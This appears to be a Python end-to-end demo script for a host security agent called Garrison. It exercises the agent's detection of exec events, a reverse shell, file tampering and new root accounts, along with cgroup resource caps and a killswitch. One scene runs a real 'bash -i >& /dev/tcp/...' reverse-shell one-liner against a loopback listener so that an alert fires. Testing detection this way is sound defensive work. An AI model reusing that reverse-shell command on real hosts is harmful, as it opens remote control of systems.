"""``make demo``: the real agent on this host for half a minute, and what it does, seen from outside.

Every line with a check mark was observed: read from the kernel, from the agent's event file or from its
command line. The exit code is 0 only if all of them were.
"""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.text import Text

from garrison.fleet.cli.events import line_of
from tests.e2e._agent import RunningAgent, alive, module, until

console = Console(highlight=False, soft_wrap=True)
SECONDS = 15.0
SPIN_SECONDS = 5.0
WRITING = Path(__file__).parents[2] / "docs" / "writing-a-worker.md"


class MissedError(Exception):
    """Something was not observed."""


class Demo:
    """The scenes, in order; each one raises `MissedError` or AssertionError where it does not see its thing."""

    def __init__(self, folder: Path) -> None:
        self.root = os.geteuid() == 0
        workers = f"""
[workers.process]
[workers.files]
[workers.files.settings]
presets = []
paths = ["@/watched"]
[workers.accounts]
command = ["{sys.executable}", "-S", "-E", "@/modules/accounts.py"]
[workers.accounts.settings]
path = "@/passwd"
seconds = 0.2
[workers.memory-hog]
modules = ["{module("memory_hog", "MemoryHog")}"]
[workers.memory-hog.budget]
memory_high = "48 MiB"
memory_max = "48 MiB"
[workers.cpu-hog]
modules = ["{module("cpu_hog", "CpuHog")}"]
[workers.cpu-hog.budget]
cpu_quota_percent = 10
"""
        mode = "" if self.root else 'cgroup_mode = "unprivileged"\n'
        self.agent = RunningAgent(folder / "agent", workers, mode)
        self.agent.host = socket.gethostname()
        self.agent.write_config(workers, mode)
        for name in ("memory-hog", "cpu-hog"):
            self.agent.put(f"server/config/@all/worker/{name}", "stop\n")
        self.watched = self.agent.folder / "watched"
        self.watched.mkdir()
        (self.watched / "index.html").write_text("hello\n")
        self.accounts = self.agent.folder / "passwd"
        self.accounts.write_text("root:x:0:0::/root:/bin/sh\n")
        # The program of docs/writing-a-worker.md, as it stands there.
        program = re.findall(r"```python\n(.*?)```", WRITING.read_text(), re.DOTALL)[-1]
        (self.agent.folder / "modules" / "accounts.py").write_text(program)
        self.listener: socket.socket | None = None

    def say(self, text: str) -> None:
        """Tell what comes next."""
        console.print(f"\n[bold]{text}[/bold]")

    def seen(self, text: str) -> None:
        """Tell what was observed."""
        console.print(Text("  ✓ ", style="green") + Text(text), soft_wrap=True)

    def show(self, text: str) -> None:
        """Show what a program has printed."""
        for line in text.rstrip().splitlines():
            console.print(Text("    " + line, style="dim"), soft_wrap=True)

    def run(self) -> None:
        """Play all scenes."""
        for scene in (
            self.start,
            self.exec_event,
            self.reverse_shell,
            self.file_change,
            self.external,
            self.memory,
            self.cpu,
            self.killswitch,
            self.recovery,
            self.end,
        ):
            scene()

    def start(self) -> None:
        """The agent starts; its worker sits in a cgroup of its own, under its caps."""
        self.say("1. The agent starts, and each worker in a cgroup of its own")
        if not self.root:
            console.print(
                "  ! not root: the kernel cannot hold the workers to their caps here; the agent does what it can by"
            )
            console.print('    looking and signalling (cgroup_mode = "unprivileged"). Run it as root to see all of it.')
        self.agent.start()
        worker = self.agent.wait_worker("process", state="running")
        self.show(self.agent.garrison("status").stdout)
        if not self.root:
            return
        mine = [
            line for line in Path(f"/proc/{worker['pid']}/cgroup").read_text().splitlines() if self.agent.root in line
        ]
        if not mine or not all(line.endswith("/workers/process") for line in mine):
            raise MissedError(f"pid {worker['pid']} is not in its cgroup: {mine}")
        self.seen(f"pid {worker['pid']} is in workers/process of {len(mine)} cgroup hierarchies, says /proc")
        memory, cpu = self.caps(worker["cgroup"])
        self.seen(f"caps read back from the kernel: memory {memory // 2**20} MiB, CPU {cpu:g} % of one core")

    def caps(self, cpu_node: str) -> tuple[int, float]:
        """Return a worker's memory cap (bytes) and CPU cap (percent of one core) from the cgroup files."""
        for node in self.agent.nodes():
            if node.endswith("workers/process"):
                for name in ("memory.limit_in_bytes", "memory.max"):
                    if os.path.exists(f"{node}/{name}"):
                        memory = int(Path(node, name).read_text())
        quota = Path(cpu_node, "cpu.cfs_quota_us")
        if quota.exists():
            return memory, int(quota.read_text()) / int(Path(cpu_node, "cpu.cfs_period_us").read_text()) * 100
        value, period = Path(cpu_node, "cpu.max").read_text().split()
        return memory, int(value) / int(period) * 100

    def wait_event(self, what: str, match: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
        """Wait for an event in the agent's file and show it as the command line does."""
        event: dict[str, Any] = until(lambda: next(filter(match, self.agent.events()), None), what, SECONDS)
        import msgspec

        console.print(Text("    ") + line_of(msgspec.json.encode(event)), soft_wrap=True)
        return event

    def exec_event(self) -> None:
        """A command runs; its event is there a moment later."""
        self.say("2. Somebody runs a command")
        word = f"hello-{os.getpid()}"
        begin = time.monotonic()
        child = subprocess.Popen(["/bin/sh", "-c", f"sleep 0.3; exit 0 # {word}"])
        event = self.wait_event(
            "the exec event",
            lambda e: e["event"].get("action") == "exec" and word in str(e["process"].get("command_line")),
        )
        child.wait()
        if event["process"]["pid"] != child.pid:
            raise MissedError(f"the event names pid {event['process']['pid']}, it was {child.pid}")
        self.seen(f"reported {time.monotonic() - begin:.1f} s after it began: pid, arguments, user and parents")

    def reverse_shell(self) -> None:
        """A shell whose input and output are a connection."""
        self.say("3. A reverse shell connects to a listener on loopback")
        self.listener = socket.create_server(("127.0.0.1", 0))
        port = self.listener.getsockname()[1]
        shell = subprocess.Popen(
            ["bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        self.listener.settimeout(SECONDS)
        connection, _ = self.listener.accept()
        try:
            self.wait_event(
                "the alert",
                lambda e: (
                    e["event"].get("kind") == "alert"
                    and "reverse" in str(e.get("rule")).lower()
                    and e["process"]["pid"] == shell.pid
                ),
            )
        finally:
            connection.close()
            shell.kill()
            shell.wait()
            self.listener.close()
        self.seen(f"an alert names pid {shell.pid} and where it is connected to")

    def file_change(self) -> None:
        """A watched file changes."""
        self.say("4. Somebody changes a watched file")
        until(lambda: any(e["event"].get("action") == "baseline-complete" for e in self.agent.events()), "a baseline")
        (self.watched / "index.html").write_text("hello, you have been hacked\n")
        event = self.wait_event(
            "the change",
            lambda e: e["event"].get("action") == "modified" and e["file"]["path"].endswith("watched/index.html"),
        )
        before, now = event["garrison"]["previous"], event["file"]
        if before["hash"]["sha256"] == now["hash"]["sha256"]:
            raise MissedError("the digest before and after is the same")
        self.seen(f"reported with size ({before['size']} -> {now['size']} bytes) and SHA-256 before and after")

    def external(self) -> None:
        """An external worker of 59 lines of plain Python."""
        self.say("5. An external worker, plain Python without Garrison, sees a new account")
        self.agent.wait_worker("accounts", state="running")
        until(lambda: self.agent.worker("accounts")["config"]["status"] == "applied", "its configuration", SECONDS)
        self.accounts.write_text(self.accounts.read_text() + "eve:x:0:0::/:/bin/sh\n")
        self.wait_event("the account", lambda e: e["event"].get("action") == "account-added")
        pid = self.agent.worker("accounts")["pid"]
        if self.root and "/workers/accounts" not in Path(f"/proc/{pid}/cgroup").read_text():
            raise MissedError(f"pid {pid} is not in its cgroup")
        self.seen(f"pid {pid} is its own program" + (", in a cgroup of its own" if self.root else ""))

    def memory(self) -> None:
        """A worker that leaks dies alone."""
        self.say("6. A worker leaks memory (its cap is 48 MiB)")
        before = self.agent.worker("process")
        self.agent.put("server/config/@all/worker/memory-hog", "start\n")
        if self.root:
            hog = self.agent.wait_worker("memory-hog", state="tripped")
            self.show("memory-hog: " + str(hog["last_error"]))
            if hog["breaker"]["cause"] != "oom":
                raise MissedError(f"it was tripped for {hog['breaker']['cause']}, not for oom")
            wait = hog["breaker"]["retry_in_seconds"]
            self.seen(f"killed by the kernel inside its own cap; its circuit is open for {wait:.0f} s")
        else:
            until(lambda: "MemoryError" in str(self.agent.worker("memory-hog")["last_error"]), "its end", SECONDS)
            self.show("memory-hog: " + str(self.agent.worker("memory-hog")["last_error"]))
            self.seen("its allocation failed at its resource limit (a cgroup would have held its children too)")
            self.agent.put("server/config/@all/worker/memory-hog", "stop\n")
        after = self.agent.worker("process")
        if (before["pid"], before["restarts"]) != (after["pid"], after["restarts"]):
            raise MissedError("the other worker was restarted")
        self.seen(f"worker process goes on as pid {after['pid']}, not restarted")

    def cpu(self) -> None:
        """A worker that spins gets its quota."""
        self.say("7. A worker spins (its quota is 10 % of one core)")
        self.agent.put("server/config/@all/worker/cpu-hog", "start\n")
        pid = self.agent.wait_worker("cpu-hog", state="running")["pid"]
        first, begin = cpu_seconds(pid), time.monotonic()
        time.sleep(SPIN_SECONDS)
        percent = 100 * (cpu_seconds(pid) - first) / (time.monotonic() - begin)
        # One period of 100 ms at each end, and the clock ticks of /proc; by polling it is a matter of luck.
        if self.root and not 1 <= percent <= 11:
            raise MissedError(f"it used {percent:.1f} % of a core")
        how = "" if self.root else " (held by looking once a second and stopping it; the kernel would do better)"
        self.seen(f"it used {percent:.1f} % of one core over {SPIN_SECONDS:.0f} s{how}")

    def killswitch(self) -> None:
        """One key, file or command empties the host."""
        self.say("8. The killswitch")
        pids = {worker["pid"] for worker in self.agent.client.call("status")["workers"] if worker["pid"]}
        killed = self.agent.garrison("kill", "--reason", "demonstration")
        self.show(killed.stdout + killed.stderr)
        if killed.returncode or any(alive(pid) for pid in pids) or self.agent.pids():
            raise MissedError("a worker is still alive")
        self.seen(f"none of the {len(pids)} workers is alive, says /proc")
        released = self.agent.garrison("release")
        self.show(released.stdout + released.stderr)
        for name in ("process", "cpu-hog"):
            self.agent.wait_worker(name, state="running")
        self.seen("released: the workers run again")

    def recovery(self) -> None:
        """The circuit of the leaking worker closes for a try, and opens for longer."""
        if not self.root:
            return
        self.say("9. The leaking worker gets its next try, by itself")
        hog = self.agent.worker("memory-hog")
        wait = hog["breaker"]["retry_in_seconds"] or 0
        self.show(f"memory-hog is {hog['state']}; next try in {wait:.0f} s")
        until(lambda: self.agent.worker("memory-hog")["breaker"]["trips"] == 2, "the next try", wait + SECONDS)
        hog = self.agent.wait_worker("memory-hog", state="tripped")
        longer = hog["breaker"]["retry_in_seconds"]
        if longer < 40:
            raise MissedError(f"its next wait is {longer:.0f} s only")
        self.seen(f"started again after its wait, leaked again, killed again: now it waits {longer:.0f} s")

    def end(self) -> None:
        """An orderly stop leaves nothing behind."""
        self.say("10. The agent stops" if self.root else "9. The agent stops")
        pids = self.agent.pids("") | {w["pid"] for w in self.agent.client.call("status")["workers"] if w["pid"]}
        code = self.agent.stop(signal.SIGTERM)
        if code:
            raise MissedError(f"garrisond ended with exit code {code}:\n{self.agent.errors()}")
        self.agent.cleanup()
        left = {pid for pid in pids if alive(pid)}
        if left or self.agent.nodes():
            raise MissedError(f"left behind: {left} {self.agent.nodes()}")
        self.seen("exit code 0; no process and no cgroup is left")


def cpu_seconds(pid: int) -> float:
    """Return the CPU time that a process has used, seconds."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main() -> int:
    """Run the demonstration; return 0 if everything in it was observed."""
    begin = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="garrison-demo-") as name:
        demo = Demo(Path(name))
        try:
            demo.run()
        except (MissedError, AssertionError, OSError, subprocess.SubprocessError) as error:
            console.print(f"\n[bold red]NOT SEEN:[/bold red] {error}", markup=True, soft_wrap=True)
            console.print(Text(demo.agent.errors()[-4000:], style="dim"))
            return 1
        finally:
            demo.agent.cleanup()
    console.print(f"\nAll of it was seen, in {time.monotonic() - begin:.0f} s.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
